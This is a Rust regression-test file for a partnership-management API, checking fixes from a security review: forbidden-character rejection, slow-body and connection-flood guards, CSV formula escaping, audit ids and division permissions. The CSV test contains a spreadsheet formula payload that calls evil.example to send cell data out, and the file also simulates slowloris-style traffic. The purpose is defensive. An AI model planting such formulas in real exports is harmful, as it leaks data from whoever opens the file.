//! Regression tests for the findings of the outside security review (issue #14) that are not
//! tied to one resource: forbidden characters in any input, slow bodies and connection floods,
//! CSV formula injection, the audit's request ids and read permission, the division rules of
//! events and of the agent in charge. Each runs on SQLite and on PostgreSQL.
use std::time::{Duration, Instant};

use reqwest::Method;
use serde_json::{Value, json};
use tests::{TestApp, expect_problem, read, spawn_apps, spawn_apps_with};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

#[tokio::test]
async fn nul_bytes_and_non_characters_are_refused_everywhere_before_the_database() {
    for app in spawn_apps().await {
        let partners_before = app.count_rows("partner", "1 = 1").await;
        // JSON bodies, unauthenticated ones included: every string, at any depth.
        let bodies = [
            ("/api/v1/auth/login", None, json!({"email": "directeur\u{0}@djcd.test", "password": "x"})),
            ("/api/v1/auth/refresh", None, json!({"refresh_token": "abc\u{0}"})),
            ("/api/v1/partners", Some(&app.token), json!({"name": "Fès\u{FFFE}", "kind": "city", "country": "MA"})),
            ("/api/v1/partners", Some(&app.token), json!({"name": "Fès\u{FFFF}", "kind": "city", "country": "MA"})),
            (
                "/api/v1/partners",
                Some(&app.token),
                json!({"name": "Fès", "kind": "city", "country": "MA", "notes": "a\u{7}b"}),
            ),
            (
                "/api/v1/partners",
                Some(&app.token),
                json!({"name": "Fès", "kind": "city", "country": "MA", "notes": "\u{FDD0}"}),
            ),
            (
                "/api/v1/partners",
                Some(&app.token),
                json!({"name": "Fès", "kind": "city", "country": "MA", "contacts": [{"name": "x\u{0}"}]}),
            ),
            (
                "/api/v1/domains",
                Some(&app.token),
                json!({"code": "wat\u{0}er", "label_fr": "Eau", "label_en": "Water"}),
            ),
        ];
        for (path, token, body) in bodies {
            let response =
                app.request_as(token.map(String::as_str), Method::POST, path).json(&body).send().await.unwrap();
            let status = response.status().as_u16();
            let problem = expect_problem(response, status, &format!("{} {path} {body}", app.backend)).await;
            assert!(matches!(status, 400 | 422), "{} {path}: {status} {problem}", app.backend);
            if status == 422 {
                assert_eq!(problem["errors"][0]["code"], "forbidden_character", "{} {path}: {problem}", app.backend);
            }
        }
        // The field at fault is named by its path.
        let body = json!({"name": "Fès", "kind": "city", "country": "MA", "contacts": [{"name": "x\u{0}"}]});
        let problem = expect_problem(app.post_json("/api/v1/partners", &body).await, 422, "nested").await;
        assert_eq!(problem["errors"][0]["field"], "contacts[0].name", "{problem}");
        // A form body (client credentials), a path and a query parameter.
        let response = app
            .client
            .post(app.url("/api/v1/auth/token"))
            .header("content-type", "application/x-www-form-urlencoded")
            .body("grant_type=client_credentials&client_id=abc%00&client_secret=x")
            .send()
            .await
            .unwrap();
        let problem = expect_problem(response, 422, &format!("{}: form", app.backend)).await;
        assert_eq!(problem["errors"][0]["field"], "client_id");
        let problem = expect_problem(app.get("/api/v1/domains/wat%00er").await, 400, "path").await;
        assert_eq!(problem["errors"][0]["field"], "path");
        let problem = expect_problem(app.get("/api/v1/partners?q=f%EF%BF%BEs").await, 400, "query").await;
        assert_eq!(problem["errors"][0]["field"], "q");
        let problem = expect_problem(app.get("/api/v1/partners?country=F%00").await, 400, "query").await;
        assert_eq!(problem["errors"][0]["field"], "country");
        assert_eq!(app.count_rows("partner", "1 = 1").await, partners_before, "{}: nothing written", app.backend);
        // Tab and line breaks stay allowed in free text.
        let body = json!({"name": "Tombouctou", "kind": "city", "country": "ML", "notes": "ligne 1\nligne 2\tfin"});
        let (status, _, created) = read(app.post_json("/api/v1/partners", &body).await).await;
        assert_eq!(status, 201, "{}: {created}", app.backend);
    }
}

#[tokio::test]
async fn a_body_trickled_slowly_is_cut_at_its_deadline() {
    let apps = spawn_apps_with(|settings| settings.guards.client_body_timeout = Duration::from_millis(1500)).await;
    for app in apps {
        let port = app.address.rsplit(':').next().unwrap().to_owned();
        let mut stream = tokio::net::TcpStream::connect(format!("127.0.0.1:{port}")).await.unwrap();
        let head = format!(
            "POST /api/v1/partners HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {}\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{{",
            app.token
        );
        stream.write_all(head.as_bytes()).await.unwrap();
        let started = Instant::now();
        let mut closed = false;
        // One byte a second: without a body deadline this would hold the connection for 100 s.
        for _ in 0..10 {
            tokio::time::sleep(Duration::from_secs(1)).await;
            if stream.write_all(b" ").await.is_err() {
                closed = true;
                break;
            }
            // Anything from the server now (an answer, the end of the stream, a reset) means it gave up.
            let mut buffer = [0u8; 512];
            if tokio::time::timeout(Duration::from_millis(10), stream.read(&mut buffer)).await.is_ok() {
                closed = true;
                break;
            }
        }
        assert!(closed, "{}: the trickling body was not cut", app.backend);
        assert!(started.elapsed() < Duration::from_secs(5), "{}: cut after {:?}", app.backend, started.elapsed());
        // A body sent at a normal pace is served as usual.
        let body = json!({"name": "Kayes", "kind": "city", "country": "ML"});
        assert_eq!(app.post_json("/api/v1/partners", &body).await.status().as_u16(), 201, "{}", app.backend);
    }
}

#[tokio::test]
async fn one_address_cannot_hold_more_than_its_share_of_connections() {
    let apps = spawn_apps_with(|settings| settings.guards.max_connections_per_address = 4).await;
    for app in apps {
        let port = app.address.rsplit(':').next().unwrap().to_owned();
        // Six idle connections (the test's own client may hold a pooled one more): the server keeps
        // at most four and shuts the others at once.
        let (mut kept, mut shut) = (Vec::new(), 0);
        for _ in 0..6 {
            let mut stream = tokio::net::TcpStream::connect(format!("127.0.0.1:{port}")).await.unwrap();
            let mut buffer = [0u8; 16];
            match tokio::time::timeout(Duration::from_millis(300), stream.read(&mut buffer)).await {
                Err(_) => kept.push(stream),
                Ok(_) => shut += 1,
            }
        }
        assert!(kept.len() <= 4, "{}: {} connections kept", app.backend, kept.len());
        assert!(shut >= 2, "{}: only {shut} connections shut", app.backend);
        // Once they close, the address is served again.
        drop(kept);
        tokio::time::sleep(Duration::from_millis(300)).await;
        let client = reqwest::Client::builder().pool_max_idle_per_host(0).build().unwrap();
        let response = client.get(app.url("/health/live")).send().await.unwrap();
        assert_eq!(response.status().as_u16(), 200, "{}", app.backend);
    }
}

#[tokio::test]
async fn csv_exports_neutralise_cells_a_spreadsheet_would_run() {
    for app in spawn_apps().await {
        let formula = r#"=HYPERLINK("http://evil.example/?"&A1,"Angers")"#;
        for name in [formula, "+33 formule", "-1+1", "@SUM(A1:A9)"] {
            let body = json!({"name": name, "kind": "city", "country": "FR"});
            let (status, _, created) = read(app.post_json("/api/v1/partners", &body).await).await;
            assert_eq!(status, 201, "{created}");
        }
        let response = app
            .request(Method::GET, "/api/v1/partners?country=FR&limit=200")
            .header("accept", "text/csv")
            .send()
            .await
            .unwrap();
        let text = response.text().await.unwrap();
        assert!(text.contains(r#""'=HYPERLINK(""http://evil.example/?""&A1,""Angers"")""#), "{}: {text}", app.backend);
        for cell in ["'+33 formule", "'-1+1", "'@SUM(A1:A9)"] {
            assert!(text.contains(cell), "{}: {cell} in {text}", app.backend);
        }
        for line in text.lines().skip(1) {
            for cell in line.split(',') {
                let cell = cell.trim_start_matches('"');
                assert!(!cell.starts_with(['=', '+', '@']), "{}: a live formula cell {cell:?}", app.backend);
            }
        }
    }
}

#[tokio::test]
async fn the_audit_keeps_the_servers_own_request_id_and_the_clients_beside_it() {
    for app in spawn_apps().await {
        for name in ["Ségou", "Mopti"] {
            let response = app
                .request(Method::POST, "/api/v1/partners")
                .header("x-request-id", "client-chosen-1")
                .json(&json!({"name": name, "kind": "city", "country": "ML"}))
                .send()
                .await
                .unwrap();
            assert_eq!(response.headers()["x-request-id"], "client-chosen-1", "the client's id is echoed");
            assert_eq!(response.status().as_u16(), 201);
        }
        let (_, _, page) = read(app.get("/api/v1/audit-events?entity_type=partner&limit=2").await).await;
        let items = page["items"].as_array().unwrap();
        assert_eq!(items.len(), 2, "{page}");
        assert!(items.iter().all(|e| e["client_request_id"] == "client-chosen-1"), "{page}");
        assert_ne!(items[0]["request_id"], items[1]["request_id"], "{}: two changes share an id", app.backend);
        assert!(items.iter().all(|e| e["request_id"] != "client-chosen-1"), "{page}");
        assert_eq!(app.count_rows("audit_event", "client_request_id = 'client-chosen-1'").await, 2);
    }
}

#[tokio::test]
async fn division_heads_read_the_audit_of_what_they_may_read_only() {
    let apps = spawn_apps_with(|settings| settings.partners.webhook_allow_private = true).await;
    for app in apps {
        let angers = app.seeded_partner("Angers").await;
        let body = json!({"partner_id": angers, "url": "http://127.0.0.1:9/hooks", "events": ["project.created"]});
        let (status, _, created) = read(app.post_json("/api/v1/webhooks", &body).await).await;
        assert_eq!(status, 201, "{created}");
        let (_, _, all) = read(app.get("/api/v1/audit-events?limit=200").await).await;
        let types = |page: &Value| -> Vec<String> {
            page["items"].as_array().unwrap().iter().map(|e| e["entity_type"].as_str().unwrap().to_owned()).collect()
        };
        assert!(types(&all).contains(&"webhook".to_owned()), "{}: the director sees it: {all}", app.backend);
        let head = app.token_for("division_head", Some("twinning")).await;
        let response = app.request_as(Some(&head), Method::GET, "/api/v1/audit-events?limit=200").send().await.unwrap();
        let (status, _, page) = read(response).await;
        assert_eq!(status, 200);
        let seen = types(&page);
        assert!(!seen.iter().any(|t| t == "webhook" || t == "user" || t == "machine_account"), "{seen:?}");
        let response =
            app.request_as(Some(&head), Method::GET, "/api/v1/audit-events?entity_type=webhook").send().await.unwrap();
        let (_, _, page) = read(response).await;
        assert_eq!(page["items"], json!([]), "{}: filtering by the type does not reveal it", app.backend);
    }
}

async fn put_event(app: &TestApp, token: &str, id: &str, etag: &str, body: &Value) -> u16 {
    let response = app
        .request_as(Some(token), Method::PUT, &format!("/api/v1/events/{id}"))
        .header("if-match", etag)
        .json(body)
        .send()
        .await
        .unwrap();
    response.status().as_u16()
}

#[tokio::test]
async fn events_follow_the_division_rule_of_every_other_record() {
    for app in spawn_apps().await {
        let round_table = json!({"kind": "round_table", "title": "Table ronde des jumelages", "starts_on": "2027-02-10", "division": "twinning"});
        let (status, _, created) = read(app.post_json("/api/v1/events", &round_table).await).await;
        assert_eq!(status, 201, "{created}");
        assert_eq!(created["division"], "twinning");
        let id = created["id"].as_str().unwrap().to_owned();
        let path = format!("/api/v1/events/{id}");
        let etag = app.get(&path).await.headers()["etag"].to_str().unwrap().to_owned();
        let other = app.token_for("agent", Some("decentralized_cooperation")).await;
        let own = app.token_for("agent", Some("twinning")).await;
        let edited = json!({"kind": "round_table", "title": "Table ronde (modifiée)", "starts_on": "2027-02-10"});
        assert_eq!(put_event(&app, &other, &id, &etag, &edited).await, 403, "{}: other division edits", app.backend);
        let response =
            app.request_as(Some(&other), Method::DELETE, &path).header("if-match", &etag).send().await.unwrap();
        assert_eq!(response.status().as_u16(), 403, "{}: other division archives", app.backend);
        assert_eq!(app.count_rows("event", "title = 'Table ronde des jumelages' AND archived_at IS NULL").await, 1);
        // The twinning agent edits it (its division is kept when the body names none).
        assert_eq!(put_event(&app, &own, &id, &etag, &edited).await, 200, "{}: own division", app.backend);
        let (_, _, event) = read(app.get(&path).await).await;
        assert_eq!(
            (event["title"].clone(), event["division"].clone()),
            (json!("Table ronde (modifiée)"), json!("twinning"))
        );
        // Nobody moves an event into another division than their own, nor creates one there.
        let etag = app.get(&path).await.headers()["etag"].to_str().unwrap().to_owned();
        let moved = json!({"kind": "round_table", "title": "x", "starts_on": "2027-02-10", "division": "decentralized_cooperation"});
        assert_eq!(put_event(&app, &own, &id, &etag, &moved).await, 403);
        let response =
            app.request_as(Some(&other), Method::POST, "/api/v1/events").json(&round_table).send().await.unwrap();
        assert_eq!(response.status().as_u16(), 403, "{}: create in the other division", app.backend);
        // An agent's event without a division is its division's; the director's is the whole DJCD's.
        let visit = json!({"kind": "delegation_visit", "title": "Visite", "starts_on": "2027-03-01"});
        let response = app.request_as(Some(&other), Method::POST, "/api/v1/events").json(&visit).send().await.unwrap();
        let (status, _, created) = read(response).await;
        assert_eq!((status, created["division"].clone()), (201, json!("decentralized_cooperation")), "{created}");
        let (_, _, djcd) = read(app.post_json("/api/v1/events", &visit).await).await;
        assert_eq!(djcd["division"], Value::Null);
        let djcd_id = djcd["id"].as_str().unwrap();
        let etag = app.get(&format!("/api/v1/events/{djcd_id}")).await.headers()["etag"].to_str().unwrap().to_owned();
        assert_eq!(put_event(&app, &own, djcd_id, &etag, &visit).await, 403, "{}: a DJCD-wide event", app.backend);
    }
}

#[tokio::test]
async fn the_agent_in_charge_belongs_to_the_records_division() {
    for app in spawn_apps().await {
        let other = app.create_user("agent-dc@djcd.test", "agent", Some("decentralized_cooperation")).await;
        let own = app.create_user("agent-jum@djcd.test", "agent", Some("twinning")).await;
        let angers = app.seeded_partner("Angers").await;
        let body = |agent: &str| {
            json!({"title": "Échange scolaire Bamako-Angers", "division": "twinning", "domains": ["education"],
                   "communes": ["commune_iii"], "participants": [{"partner_id": angers, "roles": ["funding"]}],
                   "agent_in_charge_id": agent})
        };
        let problem = expect_problem(app.post_json("/api/v1/projects", &body(&other)).await, 422, "other").await;
        assert_eq!(problem["errors"][0]["field"], "agent_in_charge_id", "{problem}");
        assert_eq!(problem["errors"][0]["code"], "other_division", "{problem}");
        let (status, _, created) = read(app.post_json("/api/v1/projects", &body(&own)).await).await;
        assert_eq!(status, 201, "{}: {created}", app.backend);
        // Nor can an update put the other division's agent in charge.
        let path = format!("/api/v1/projects/{}", created["id"].as_str().unwrap());
        let etag = app.get(&path).await.headers()["etag"].to_str().unwrap().to_owned();
        let response = app.patch_json(&path, Some(&etag), &json!({"agent_in_charge_id": other})).await;
        expect_problem(response, 422, "update").await;
        let (_, _, project) = read(app.get(&path).await).await;
        assert_eq!(project["agent_in_charge_id"], json!(own), "{}: unchanged", app.backend);
    }
}
